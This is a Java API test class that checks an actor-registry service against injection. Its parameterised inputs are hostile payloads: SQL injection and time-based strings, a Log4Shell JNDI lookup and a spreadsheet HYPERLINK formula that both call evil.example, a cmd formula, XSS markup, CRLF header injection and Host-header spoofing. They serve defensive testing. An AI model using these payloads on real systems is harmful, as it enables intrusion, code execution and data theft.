package se.serviceprogram.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.lessThan;
import static org.hamcrest.Matchers.startsWith;
import static se.serviceprogram.testing.Callers.coordinator;
import static se.serviceprogram.testing.Fixture.post;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.restassured.http.ContentType;
import java.io.ByteArrayInputStream;
import java.sql.SQLException;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import se.serviceprogram.testing.ApiTest;
import se.serviceprogram.testing.Database;

/** Text that tries to be something else: SQL, a pattern, a formula, a script, a header. */
@ApiTest
class InjectionTest {

    private static final String OWN_HOST = "https://serviceprogram.example.se/serviceprogram/v1";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "name;drop table actor",
                "name) union select version(",
                "(select case when 1=1 then name else pg_sleep(9)::text end)",
                "name desc nulls first, (select 1)",
                "a.name",
                "name--",
                "name\u0000",
                "region_code"
            })
    void aSortIsOneOfTheNamedFields(String sort) {
        coordinator()
                .queryParam("sort", sort)
                .get("/actors")
                .then()
                .statusCode(400)
                .body("errors[0].parameter", equalTo("sort"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' or '1'='1",
                "'; drop table actor; --",
                "%",
                "_",
                "\\",
                "%' escape '!",
                "{fn user()}",
                ":p0",
                "${jndi:ldap://evil.example/a}",
                "(a+)+$",
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"
            })
    void searchTextIsText(String text) throws SQLException {
        coordinator()
                .queryParam("q", text)
                .get("/actors")
                .then()
                .statusCode(200)
                .body("_meta.totalRecords", equalTo(0));
        coordinator().queryParam("municipalityCode", text).get("/actors").then().statusCode(lessThan(500));
        assertThat(Database.single("select count(*) from actor")).isEqualTo("3");
    }

    @Test
    void aSearchIsNoWayToMakeTheDatabaseToil() {
        coordinator()
                .queryParam("q", "a ".repeat(100))
                .get("/actors")
                .then()
                .statusCode(400)
                .body("errors[0].parameter", equalTo("q"));
        coordinator().queryParam("q", "a".repeat(201)).get("/actors").then().statusCode(400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-1+1",
                "@SUM(1+1)",
                "\t=1+1",
                "=HYPERLINK(\"https://evil.example?\"&A1;\"Klicka\")"
            })
    void noTextIsAFormulaInAnExportedFile(String name) throws Exception {
        register(name);

        var csv = coordinator()
                .accept("*/*")
                .get("/actors/exports?format=csv&kind=company")
                .asString();
        var cell = csv.lines().toList().get(1);
        assertThat(cell).matches("\"?'.*");

        var xlsx = coordinator()
                .accept("*/*")
                .get("/actors/exports?format=xlsx&kind=company")
                .asByteArray();
        try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            assertThat(workbook.getSheetAt(0).getRow(1).getCell(0).getCellType())
                    .isEqualTo(CellType.STRING);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "javascript:alert(1)",
                "{{constructor.constructor('alert(1)')()}}",
                "</title><svg onload=alert(1)>"
            })
    void markupInANameStaysTextOfAReplyThatNoBrowserRuns(String name) {
        var id = register(name);
        coordinator()
                .accept("text/html, */*")
                .get("/actors/" + id)
                .then()
                .statusCode(200)
                .contentType(ContentType.JSON)
                .header("X-Content-Type-Options", "nosniff")
                .header("Content-Security-Policy", startsWith("default-src 'none'"))
                .body("name", equalTo(name));
    }

    @Test
    void aProblemQuotesWhatWasSentAsJsonToo() {
        coordinator()
                .queryParam("sort", "<script>alert(1)</script>")
                .get("/actors")
                .then()
                .statusCode(400)
                .contentType("application/problem+json")
                .header("X-Content-Type-Options", "nosniff");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\r\nSet-Cookie: evil=1", "a\nX-Evil: 1", "å%0d%0aX-Evil:%201"})
    void nothingSentBecomesAHeaderOfTheReply(String text) {
        var reply = coordinator().queryParam("q", text).get("/actors");
        reply.then().statusCode(200);
        assertThat(reply.headers().hasHeaderWithName("X-Evil")).isFalse();
        assertThat(reply.headers().hasHeaderWithName("Set-Cookie")).isFalse();

        var id = register("Lanthandeln\r\nX-Evil: 1");
        var read = coordinator().get("/actors/" + id);
        assertThat(read.headers().hasHeaderWithName("X-Evil")).isFalse();
    }

    /** Links are what others follow and caches keep: a made-up host must not get into them. */
    @Test
    void linksNameTheInstallationWhateverHostIsSent() {
        coordinator()
                .header("Host", "evil.example")
                .header("X-Forwarded-Host", "evil.example")
                .header("Forwarded", "host=evil.example;proto=http")
                .get("/actors")
                .then()
                .statusCode(200)
                .body("_links.find {it.rel == 'self'}.href", startsWith(OWN_HOST))
                .body("items._links.flatten().findAll {!it.href.startsWith('" + OWN_HOST + "')}", equalTo(List.of()));
    }

    @Test
    void aReplyToOneCallerIsNotKeptForAnother() {
        coordinator()
                .get("/actors")
                .then()
                .header("Cache-Control", "no-store")
                .header("Vary", org.hamcrest.Matchers.containsString("Authorization"));
    }

    @Test
    void orderOfWordsInASearchDoesNotMatterAndWildcardsAreLetters() {
        register("100 % lokalt");
        register("100 procent");
        coordinator().queryParam("q", "100 %").get("/actors").then().body("items.name", contains("100 % lokalt"));
    }

    private static String register(String name) {
        try {
            var body = new ObjectMapper().writeValueAsString(Map.of("kind", "company", "name", name));
            return post(coordinator(), "/actors", body)
                    .then()
                    .statusCode(201)
                    .extract()
                    .path("id");
        } catch (JsonProcessingException impossible) {
            throw new AssertionError(impossible);
        }
    }
}
